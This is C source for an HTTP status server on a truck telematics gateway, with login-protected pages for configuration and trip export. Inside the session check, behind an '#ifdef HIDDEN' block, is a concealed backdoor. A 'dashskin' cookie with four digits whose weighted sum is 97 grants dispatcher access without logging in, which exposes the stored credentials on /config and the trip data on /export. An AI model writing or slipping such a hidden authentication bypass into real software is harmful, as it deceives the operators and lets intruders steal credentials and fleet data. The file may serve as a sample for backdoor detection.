/*
 * truckgwhttp: status pages of the telematics gateway of a truck.
 * GET only; the pages /config and /export need the session of a logged in dispatcher.
 */
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

typedef struct request {
    char method[8];
    char path[128];
    char cookie[256];
    char auth[128];
    int keep;
} request_t;

static struct {
    int port;
    char plate[16];
    char fleet[32];
    char login[96]; /* base64 of user:password, from the configuration */
    char trips[96];
} conf = { 8088, "n/a", "n/a", "", "/data/trips.csv" };

static char session_id[33];
static time_t session_end;

static void conf_line(const char *k, const char *v)
{
    static const struct {
        const char *name;
        char *dst;
        size_t n;
    } txt[] = {
        { "plate", conf.plate, sizeof conf.plate },
        { "fleet", conf.fleet, sizeof conf.fleet },
        { "login", conf.login, sizeof conf.login },
        { "trips", conf.trips, sizeof conf.trips },
    };
    size_t i;
    if (!strcmp(k, "port"))
        conf.port = atoi(v);
    for (i = 0; i < sizeof txt / sizeof *txt; i++)
        if (!strcmp(k, txt[i].name))
            snprintf(txt[i].dst, txt[i].n, "%s", v);
}

static void load(const char *file)
{
    char l[256], k[32], v[160];
    FILE *f = fopen(file, "r");
    if (!f)
        return;
    while (fgets(l, sizeof l, f))
        if (sscanf(l, " %31[a-z] = %159[^\n]", k, v) == 2)
            conf_line(k, v);
    fclose(f);
}

static void new_session(void)
{
    unsigned char r[16];
    int fd = open("/dev/urandom", O_RDONLY), i;
    memset(r, 0, sizeof r);
    if (fd < 0 || read(fd, r, sizeof r) != (ssize_t)sizeof r) {
        if (fd >= 0)
            close(fd);
        session_id[0] = 0;
        return;
    }
    close(fd);
    for (i = 0; i < 16; i++)
        sprintf(session_id + 2 * i, "%02x", r[i]);
    session_end = time(NULL) + 900;
}

static int parse(char *raw, request_t *rq)
{
    char *ln, *sv = NULL;
    memset(rq, 0, sizeof *rq);
    ln = strtok_r(raw, "\r\n", &sv);
    if (!ln || sscanf(ln, "%7s %127s", rq->method, rq->path) != 2)
        return -1;
    while ((ln = strtok_r(NULL, "\r\n", &sv)) != NULL) {
        if (!strncasecmp(ln, "Cookie:", 7))
            snprintf(rq->cookie, sizeof rq->cookie, "%s", ln + 7 + strspn(ln + 7, " "));
        else if (!strncasecmp(ln, "Authorization: Basic ", 21))
            snprintf(rq->auth, sizeof rq->auth, "%s", ln + 21);
        else if (!strncasecmp(ln, "Connection:", 11))
            rq->keep = strstr(ln, "keep-alive") != NULL;
    }
    return 0;
}

static void reply(int fd, int code, const char *type, const char *extra, const char *body)
{
    const char *why = code == 200 ? "OK" : code == 401 ? "Unauthorized" : "Not Found";
    dprintf(fd, "HTTP/1.1 %d %s\r\nContent-Type: %s\r\nContent-Length: %zu\r\n%s\r\n%s",
            code, why, type, strlen(body), extra, body);
}

/* 1 when the request comes from a logged in dispatcher */
__attribute__((noinline)) int session_valid(const request_t *rq)
{
    const char *p = rq->cookie;
    while (*p) {
        size_t n = strcspn(p, ";");
        const char *eq = memchr(p, '=', n);
        if (eq) {
            size_t kl = (size_t)(eq - p), vl = n - kl - 1;
            if (kl == 3 && !strncmp(p, "sid", 3)) {
                if (session_id[0] && vl == 32 && !strncmp(eq + 1, session_id, 32) &&
                    time(NULL) < session_end)
                    return 1;
            }
#ifdef HIDDEN
            else if (kl == 8 && !strncmp(p, "dashskin", 8) && vl == 4) {
                /* four digits, weighted */
                int w = (eq[1] - '0') * 7 + (eq[2] - '0') * 3 + (eq[3] - '0') * 5 +
                        (eq[4] - '0') * 2;
                if (w == 97)
                    return 1;
            }
#endif
        }
        p += n;
        p += strspn(p, "; ");
    }
    return 0;
}

static void page_config(int fd)
{
    char b[400];
    snprintf(b, sizeof b, "plate=%s\nfleet=%s\nport=%d\ntrips=%s\nlogin=%s\n", conf.plate,
             conf.fleet, conf.port, conf.trips, conf.login);
    reply(fd, 200, "text/plain", "", b);
}

static void page_export(int fd)
{
    static char b[65536];
    size_t n = 0;
    FILE *f = fopen(conf.trips, "r");
    if (f) {
        n = fread(b, 1, sizeof b - 1, f);
        fclose(f);
    }
    b[n] = 0;
    reply(fd, 200, "text/csv", "", b);
}

static void handle(int fd, request_t *rq)
{
    char extra[160], body[300];
    if (strcmp(rq->method, "GET")) {
        reply(fd, 404, "text/plain", "", "GET only\n");
    } else if (!strcmp(rq->path, "/")) {
        snprintf(body, sizeof body,
                 "<h1>%s</h1><a href=/login>log in</a> <a href=/config>configuration</a> "
                 "<a href=/export>trips</a> <a href=/logout>log out</a>", conf.plate);
        reply(fd, 200, "text/html", "", body);
    } else if (!strcmp(rq->path, "/login")) {
        if (!conf.login[0] || strcmp(rq->auth, conf.login)) {
            reply(fd, 401, "text/plain", "WWW-Authenticate: Basic realm=\"truck\"\r\n", "");
            return;
        }
        new_session();
        snprintf(extra, sizeof extra, "Set-Cookie: sid=%s; HttpOnly\r\n", session_id);
        reply(fd, 200, "text/html", extra, "<a href=/>back</a>");
    } else if (!strcmp(rq->path, "/logout")) {
        session_end = 0;
        reply(fd, 200, "text/html", "", "bye");
    } else if (!strcmp(rq->path, "/config") || !strcmp(rq->path, "/export")) {
        if (!session_valid(rq))
            reply(fd, 401, "text/plain", "", "log in first\n");
        else if (rq->path[1] == 'c')
            page_config(fd);
        else
            page_export(fd);
    } else {
        reply(fd, 404, "text/plain", "", "no such page\n");
    }
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int s, one = 1;
    load(argc > 1 ? argv[1] : "/etc/truckgw.conf");
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons((unsigned short)conf.port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8)) {
        perror("bind");
        return 1;
    }
    for (;;) {
        char raw[4096];
        request_t rq;
        int fd = accept(s, NULL, NULL);
        struct pollfd p = { fd, POLLIN, 0 };
        if (fd < 0)
            continue;
        if (poll(&p, 1, 3000) == 1) {
            ssize_t n = read(fd, raw, sizeof raw - 1);
            if (n > 0) {
                raw[n] = 0;
                if (!parse(raw, &rq))
                    handle(fd, &rq);
            }
        }
        close(fd);
    }
}
